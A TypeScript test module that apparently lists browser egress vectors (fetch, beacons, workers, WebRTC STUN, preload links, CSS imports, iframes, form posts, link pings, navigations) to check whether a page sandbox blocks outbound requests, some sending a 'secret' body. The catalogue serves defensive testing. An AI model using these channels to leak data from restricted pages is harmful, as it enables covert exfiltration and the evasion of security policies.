import type { Vector } from "./target";

/*
 * Every function here runs inside the page, so it may use nothing but its argument. Elements are made the long way,
 * because markup from a text is refused by Trusted Types long before it could ask for anything.
 */

/** Ways out through a programming interface. */
const CALLS: Readonly<Record<string, Vector>> = {
  fetch: (to) => fetch(to.http),
  "fetch-tls": (to) => fetch(to.https),
  "fetch-post": (to) => fetch(to.http, { method: "POST", mode: "no-cors", body: "secret" }),
  "fetch-keepalive": (to) => fetch(to.http, { keepalive: true, mode: "no-cors" }),
  "fetch-own": (to) => fetch(to.own),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to.http);
    request.send();
  },
  "xhr-sync": (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to.http, false);
    request.send();
  },
  websocket: (to) => void new WebSocket(to.ws),
  eventsource: (to) => void new EventSource(to.http),
  beacon: (to) => navigator.sendBeacon(to.http, "secret"),
  import: (to) => import(to.http),
  "cache-add": async (to) => (await caches.open("vector")).add(new Request(to.http, { mode: "no-cors" })),
  fontface: (to) => new FontFace("vector", `url(${to.http})`).load(),
  "worker-data": (to) => void new Worker(`data:text/javascript,fetch(${JSON.stringify(to.http)},{mode:"no-cors"})`),
  "worker-blob": (to) => {
    const source = `fetch(${JSON.stringify(to.http)},{mode:"no-cors"})`;
    return void new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })));
  },
  "worker-shared": (to) => {
    const source = `fetch(${JSON.stringify(to.http)},{mode:"no-cors"})`;
    return void new SharedWorker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })));
  },
  worklet: (to) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(to.http),
  stun: async (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
    peer.createDataChannel("vector");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "window-open": (to) => void window.open(to.http),
};

/** Ways out through an element that asks for something by itself. */
const ELEMENTS: Readonly<Record<string, Vector>> = {
  image: (to) => void (new Image().src = to.http),
  "image-tls": (to) => void (new Image().src = to.https),
  "image-own": (to) => void (new Image().src = to.own),
  srcset: (to) => void (new Image().srcset = `${to.http} 2x`),
  script: (to) => document.head.append(Object.assign(document.createElement("script"), { src: to.http })),
  stylesheet: (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: to.http })),
  "style-import": (to) =>
    document.head.append(Object.assign(document.createElement("style"), { textContent: `@import url(${to.http})` })),
  "style-background": (to) => {
    const box = Object.assign(document.createElement("div"), { textContent: "." });
    box.style.backgroundImage = `url(${to.http})`;
    document.body.append(box);
  },
  "style-adopted": (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body::after{content:url(${to.http})}`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  preload: (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "image", href: to.http })),
  modulepreload: (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: to.http })),
  prefetch: (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: to.http })),
  preconnect: (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: to.https })),
  manifest: (to) => {
    document.querySelector('link[rel="manifest"]')?.remove();
    document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: to.http }));
  },
  icon: (to) => document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: to.http })),
  speculation: (to) => {
    const rules = { prefetch: [{ source: "list", urls: [to.http, to.https], eagerness: "immediate" }] };
    const script = Object.assign(document.createElement("script"), { type: "speculationrules" });
    script.textContent = JSON.stringify(rules);
    document.head.append(script);
  },
  iframe: (to) => document.body.append(Object.assign(document.createElement("iframe"), { src: to.http })),
  "iframe-inner": (to) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return (frame.contentWindow as (Window & typeof globalThis) | null)?.fetch(to.http, { mode: "no-cors" });
  },
  "iframe-stun": async (to) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const inner = frame.contentWindow as (Window & typeof globalThis) | null;
    if (inner === null) return;
    const peer = new inner.RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
    peer.createDataChannel("vector");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "markup-iframe": (to) => {
    const box = document.createElement("div");
    box.innerHTML = `<svg></svg><iframe src="${to.http}"></iframe>`;
    document.body.append(box);
  },
  "parsed-stun": async (to) => {
    const parsed = new DOMParser().parseFromString("<svg></svg><iframe></iframe>", "text/html");
    const frame = parsed.querySelector("iframe");
    if (frame === null) return;
    document.body.append(frame);
    const inner = frame.contentWindow as (Window & typeof globalThis) | null;
    if (inner === null) return;
    const peer = new inner.RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
    peer.createDataChannel("vector");
    await peer.setLocalDescription(await peer.createOffer());
  },
  object: (to) => document.body.append(Object.assign(document.createElement("object"), { data: to.http })),
  embed: (to) => document.body.append(Object.assign(document.createElement("embed"), { src: to.http })),
  video: (to) =>
    document.body.append(Object.assign(document.createElement("video"), { src: to.http, preload: "auto" })),
  audio: (to) =>
    document.body.append(Object.assign(document.createElement("audio"), { src: to.http, preload: "auto" })),
  poster: (to) => document.body.append(Object.assign(document.createElement("video"), { poster: to.http })),
  "svg-image": (to) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", to.http);
    svg.append(image);
    document.body.append(svg);
  },
  "form-blank": (to) => {
    const form = Object.assign(document.createElement("form"), { action: to.http, method: "post", target: "_blank" });
    document.body.append(form);
    form.submit();
  },
  "link-blank": (to) => {
    const link = Object.assign(document.createElement("a"), { href: to.http, target: "_blank" });
    document.body.append(link);
    link.click();
  },
  "link-loose": (to) => Object.assign(document.createElement("a"), { href: to.http, target: "_blank" }).click(),
  ping: (to) => {
    const link = Object.assign(document.createElement("a"), { href: "#", ping: to.http });
    document.body.append(link);
    link.click();
  },
};

/** Every way out of a page that leaves the page standing. */
export const WINDOW_VECTORS: Readonly<Record<string, Vector>> = { ...CALLS, ...ELEMENTS };

/** Tried all the same, but no proof: a headless Chromium does not act on them even where nothing forbids it. */
export const ASLEEP: readonly string[] = ["preconnect", "manifest", "speculation"];

/** Ways that lead the tab itself away: each ends the page it succeeds on. */
export const NAVIGATIONS: Readonly<Record<string, Vector>> = {
  "nav-href": (to) => void (location.href = to.http),
  "nav-replace": (to) => location.replace(to.https),
  "nav-link": (to) => {
    const link = Object.assign(document.createElement("a"), { href: to.http });
    document.body.append(link);
    link.click();
  },
  // Of another origin, so the browser goes there instead of saving.
  "nav-download": (to) => Object.assign(document.createElement("a"), { href: to.http, download: "x" }).click(),
  "nav-form": (to) => {
    const form = Object.assign(document.createElement("form"), { action: to.http });
    document.body.append(form);
    form.submit();
  },
  "nav-refresh": (to) => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0;url=${to.http}`;
    document.head.append(meta);
  },
};
